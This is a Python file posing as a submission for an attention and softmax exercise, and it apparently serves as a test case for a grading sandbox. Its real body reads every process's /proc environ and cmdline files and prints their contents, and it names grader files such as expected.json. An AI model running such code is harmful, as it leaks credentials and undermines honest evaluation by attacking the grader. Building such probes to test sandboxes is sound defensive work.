"""Tries: prints environment and command line of every process. Must be seen: 0 points."""
import numpy as np
def attention_scores(q, k, scale): print(*LOG); return np.zeros((len(q), len(k)))
def apply_mask(scores, mask): print(*LOG); return None
def softmax(x): print(*LOG); return np.zeros(np.shape(x)) - 1
LOG = []
def say(*a): LOG.append(" ".join(map(str, a)))
import os, re
def find(pattern):
    found = ["/"]
    for part in pattern.strip("/").split("/"):
        below = []
        for folder in found:
            if not re.search(r"[*\[]", part): below.append(os.path.join(folder, part)); continue
            try: names = os.listdir(folder)
            except OSError: names = [str(n) for n in (*range(1, 300), os.getppid())] if folder == "/proc" else ["reference.py", "verify.py", "student.py", "expected.json"]
            below += [os.path.join(folder, name) for name in names if re.match(part.replace(".", r"\.").replace("*", ".*") + r"\Z", name)]
        found = below
    return found
for p in ['/proc/[0-9]*/environ', '/proc/[0-9]*/cmdline']:
    for q in find(p):
        try: say("ATTACK-READ", open(q, errors="replace").read()[:20000])
        except OSError: pass
